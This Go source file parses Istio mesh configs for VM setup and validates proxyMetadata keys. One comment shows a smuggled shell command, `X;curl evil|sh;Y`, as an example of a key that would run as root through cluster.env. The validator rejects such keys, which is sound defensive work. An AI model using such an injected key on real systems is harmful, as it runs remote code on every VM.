package vmconfig

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"regexp"
	"strings"

	"github.com/golang/protobuf/jsonpb" //nolint:staticcheck // istioctl's protomarshal uses it; its merge semantics are the ones to match
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/protoadapt"
	"gopkg.in/yaml.v3"
	meshpb "istio.io/api/mesh/v1alpha1"

	"github.com/meshfleet/meshfleet/internal/manifest"
)

// Mesh is the part of a mesh config (the `mesh` key of istiod's ConfigMap)
// that the VM files depend on.
type Mesh struct {
	// config is the mesh config as istioctl holds it after applying the
	// YAML (protomarshal.ApplyYAML) to a MeshConfig whose defaultConfig has
	// an empty proxyMetadata: a mesh config that sets defaultConfig
	// replaces that message whole, so its proxyMetadata is then nil unless
	// it sets one.
	config *meshpb.MeshConfig
}

// meshLimits bound a mesh config and a proxy.istio.io/config annotation:
// both are a few kilobytes in real meshes.
var meshLimits = manifest.Limits{MaxBytes: 1 << 20, MaxDepth: 50, MaxAliasNodes: 10_000, MaxDocuments: 4}

// ParseMesh reads a mesh config: the YAML istiod keeps under the `mesh`
// key of its ConfigMap istio[-REV], or that ConfigMap itself. Empty input is
// the empty mesh config. Errors carry file and line.
func ParseMesh(file string, data []byte) (*Mesh, error) {
	docs, err := manifest.Parse(file, data, meshLimits)
	if err != nil {
		return nil, err
	}
	if len(docs) == 0 {
		return meshFrom(file, nil)
	}
	if len(docs) > 1 {
		return nil, manifest.Errorf(file, docs[1].Node, "", "more than one YAML document: a mesh config is one")
	}
	root := docs[0].Node
	// A ConfigMap (kubectl get cm istio -o yaml) holds the mesh config as a
	// string under data.mesh, as istioctl reads it.
	if _, kind := manifest.Lookup(root, "kind"); kind != nil && kind.Value == "ConfigMap" {
		mn, ok := manifest.Find(root, "data.mesh")
		if !ok || mn.Kind != yaml.ScalarNode || mn.ShortTag() != "!!str" {
			return nil, manifest.Errorf(file, root, "data.mesh", "a ConfigMap given as mesh config must hold the mesh config as a string under data.mesh")
		}
		inner, err := parseEmbedded(file, mn, "data.mesh")
		if err != nil {
			return nil, err
		}
		if inner == nil {
			return meshFrom(file, nil)
		}
		root = inner
	}
	return meshFrom(file, root)
}

func meshFrom(file string, root *yaml.Node) (*Mesh, error) {
	root = manifest.Resolve(root)
	mc := &meshpb.MeshConfig{DefaultConfig: &meshpb.ProxyConfig{ProxyMetadata: map[string]string{}}}
	if isNull(root) {
		return &Mesh{config: mc}, nil
	}
	if root.Kind != yaml.MappingNode {
		return nil, manifest.Errorf(file, root, "", "a mesh config is a mapping, got %s", describe(root))
	}
	for _, key := range []string{"default_config", "defaultConfig"} {
		if _, v := manifest.Lookup(root, key); v != nil && !isNull(manifest.Resolve(v)) {
			if err := checkProxyMetadata(file, manifest.Resolve(v), key); err != nil {
				return nil, err
			}
		}
	}
	if err := applyYAML(root, mc); err != nil {
		at, path := fieldAtFault(root, func(one *yaml.Node) error { return applyYAML(one, &meshpb.MeshConfig{}) })
		return nil, manifest.Errorf(file, at, path, "not a valid mesh config: %s", err)
	}
	return &Mesh{config: mc}, nil
}

// fieldAtFault finds the field of mapping n that makes apply fail, as deep
// as it goes, by applying it alone (wrapped in its parents): n itself when
// no single field fails alone. It returns the field's key node and path.
func fieldAtFault(n *yaml.Node, apply func(*yaml.Node) error) (*yaml.Node, string) {
	at, path := n, ""
	wrap := func(inner *yaml.Node) *yaml.Node { return inner }
	for depth := 0; n != nil && n.Kind == yaml.MappingNode && depth < 32; depth++ {
		var next *yaml.Node
		for i := 0; i+1 < len(n.Content); i += 2 {
			k, v := n.Content[i], manifest.Resolve(n.Content[i+1])
			if apply(wrap(&yaml.Node{Kind: yaml.MappingNode, Content: []*yaml.Node{k, v}})) == nil {
				continue
			}
			at, path, next = k, manifest.AppendKey(path, k.Value), v
			outer := wrap
			wrap = func(inner *yaml.Node) *yaml.Node {
				return outer(&yaml.Node{Kind: yaml.MappingNode, Content: []*yaml.Node{k, inner}})
			}
			break
		}
		n = next
	}
	return at, path
}

// parseEmbedded parses the YAML held in the string scalar n (an annotation
// value, a ConfigMap key) through the same guard as a file. Errors point
// into file at the line the embedded text has there.
func parseEmbedded(file string, n *yaml.Node, path string) (*yaml.Node, error) {
	docs, err := manifest.Parse(file, []byte(n.Value), meshLimits)
	if err != nil {
		me, ok := err.(*manifest.Error)
		if !ok {
			return nil, err
		}
		return nil, &manifest.Error{File: file, Line: embeddedLine(n, me.Line), Path: path, Msg: me.Msg}
	}
	switch len(docs) {
	case 0:
		return nil, nil
	case 1:
		shiftLines(docs[0].Node, n)
		return docs[0].Node, nil
	}
	return nil, manifest.Errorf(file, n, path, "holds more than one YAML document")
}

// embeddedLine maps line l of the text of scalar n to a line of its file:
// a block scalar (| or >) starts on the line after its indicator; any other
// scalar is reported at its own line.
func embeddedLine(n *yaml.Node, l int) int {
	if l > 0 && (n.Style == yaml.LiteralStyle || n.Style == yaml.FoldedStyle) {
		return n.Line + l
	}
	return n.Line
}

// shiftLines rewrites the lines of an embedded document's nodes to lines of
// the file holding scalar host.
func shiftLines(n *yaml.Node, host *yaml.Node) {
	seen := map[*yaml.Node]bool{}
	var walk func(*yaml.Node)
	walk = func(x *yaml.Node) {
		if x == nil || seen[x] {
			return
		}
		seen[x] = true
		x.Line = embeddedLine(host, x.Line)
		// The block's indentation is not in the node: the column in the
		// file is unknown, and a wrong one is worse than none.
		x.Column = 0
		for _, c := range x.Content {
			walk(c)
		}
		walk(x.Alias)
	}
	walk(n)
}

// envNameRE is a shell variable name. cluster.env is sourced by bash as root
// (istio-start.sh: `. "$ISTIO_CLUSTER_CONFIG"`), and istioctl writes
// proxyMetadata keys unquoted, so a key such as `X;curl evil|sh;Y` would run
// on every VM: meshfleet refuses it.
var envNameRE = regexp.MustCompile(`^[A-Za-z_][A-Za-z0-9_]*$`)

// yaml11Bool lists the plain scalars YAML 1.1 reads as booleans. istioctl
// reads YAML through sigs.k8s.io/yaml (YAML 1.1), so `FOO: yes` is a
// boolean there and fails as a proxyMetadata value.
var yaml11Bool = map[string]bool{
	"y": true, "Y": true, "yes": true, "Yes": true, "YES": true,
	"n": true, "N": true, "no": true, "No": true, "NO": true,
	"on": true, "On": true, "ON": true, "off": true, "Off": true, "OFF": true,
}

// checkProxyMetadata checks the proxyMetadata of a ProxyConfig mapping pc
// with positions before protojson sees it: keys must be shell variable
// names (see envNameRE) and values strings.
func checkProxyMetadata(file string, pc *yaml.Node, path string) error {
	if pc.Kind != yaml.MappingNode {
		return manifest.Errorf(file, pc, path, "expected a mapping, got %s", describe(pc))
	}
	for _, key := range []string{"proxy_metadata", "proxyMetadata"} {
		_, v := manifest.Lookup(pc, key)
		v = manifest.Resolve(v)
		if v == nil || isNull(v) {
			continue
		}
		p := manifest.AppendKey(path, key)
		if v.Kind != yaml.MappingNode {
			return manifest.Errorf(file, v, p, "expected a mapping of environment variables, got %s", describe(v))
		}
		for i := 0; i+1 < len(v.Content); i += 2 {
			k, val := v.Content[i], manifest.Resolve(v.Content[i+1])
			kp := manifest.AppendKey(p, k.Value)
			if k.Tag == "!!merge" {
				return manifest.Errorf(file, k, kp, "merge keys (<<) are not supported here")
			}
			if !envNameRE.MatchString(k.Value) {
				return manifest.Errorf(file, k, kp, "%q is not an environment variable name (letters, digits and _, not starting with a digit): cluster.env is a shell script run as root on the VM", k.Value)
			}
			if val.Kind != yaml.ScalarNode || val.ShortTag() != "!!str" || val.Style == 0 && yaml11Bool[val.Value] {
				return manifest.Errorf(file, val, kp, "expected a string, got %s (quote it)", describe(val))
			}
		}
	}
	return nil
}

// applyYAML is istioctl's protomarshal.ApplyYAML: the YAML as JSON, applied
// to msg by golang/protobuf's jsonpb, retried with unknown fields allowed
// when it fails (so unknown fields are dropped, and other errors stand).
// jsonpb replaces every field the JSON sets to a non-null value whole — a
// message, a list and a map alike — and leaves the others.
func applyYAML(n *yaml.Node, msg proto.Message) error {
	js, err := json.Marshal(jsonSafe(manifest.Value(n)))
	if err != nil {
		return err
	}
	m := protoadapt.MessageV1Of(msg)
	if err := (&jsonpb.Unmarshaler{}).Unmarshal(bytes.NewReader(js), m); err != nil {
		if err := (&jsonpb.Unmarshaler{AllowUnknownFields: true}).Unmarshal(bytes.NewReader(js), m); err != nil {
			return errors.New(protoErr(err))
		}
	}
	return nil
}

// unmarshalLenient is how Istio's client-go decodes a spec: jsonpb with
// unknown fields allowed, into msg as it is.
func unmarshalLenient(n *yaml.Node, msg proto.Message) error {
	js, err := json.Marshal(jsonSafe(manifest.Value(n)))
	if err != nil {
		return err
	}
	if err := (&jsonpb.Unmarshaler{AllowUnknownFields: true}).Unmarshal(bytes.NewReader(js), protoadapt.MessageV1Of(msg)); err != nil {
		return errors.New(protoErr(err))
	}
	return nil
}

// jsonSafe makes manifest.Value's output marshal as JSON: NaN and infinities
// (YAML .nan, .inf) become their string names, which protojson reads for
// float fields and refuses elsewhere, as jsonpb does.
func jsonSafe(v any) any {
	switch x := v.(type) {
	case map[string]any:
		for k, e := range x {
			x[k] = jsonSafe(e)
		}
	case []any:
		for i, e := range x {
			x[i] = jsonSafe(e)
		}
	case float64:
		switch {
		case x != x:
			return "NaN"
		case x > 1.7976931348623157e308:
			return "Infinity"
		case x < -1.7976931348623157e308:
			return "-Infinity"
		}
	}
	return v
}

// protoErr shortens protojson's messages, which start with "proto:" and
// use a non-breaking space to discourage matching on them.
func protoErr(err error) string {
	s := strings.ReplaceAll(err.Error(), "\u00a0", " ")
	return protoPrefixRE.ReplaceAllString(s, "")
}

// protoPrefixRE matches protojson's prefix and the position in the JSON
// meshfleet made from the YAML, which means nothing to the reader.
var protoPrefixRE = regexp.MustCompile(`^proto:\s*(\(line \d+:\d+\):\s*)?`)

func isNull(n *yaml.Node) bool {
	return n == nil || n.Kind == yaml.ScalarNode && n.ShortTag() == "!!null"
}

// describe names what a node is, for type errors.
func describe(n *yaml.Node) string {
	switch n.Kind {
	case yaml.MappingNode:
		return "a mapping"
	case yaml.SequenceNode:
		return "a sequence"
	}
	switch n.ShortTag() {
	case "!!str":
		if n.Style == 0 && yaml11Bool[n.Value] {
			return fmt.Sprintf("%s, a boolean to YAML 1.1 (kubectl, istioctl)", n.Value)
		}
		return fmt.Sprintf("string %q", n.Value)
	case "!!int":
		return "integer " + n.Value
	case "!!float":
		return "number " + n.Value
	case "!!bool":
		return "boolean " + n.Value
	case "!!null":
		return "null"
	}
	return fmt.Sprintf("%s %q", n.ShortTag(), n.Value)
}
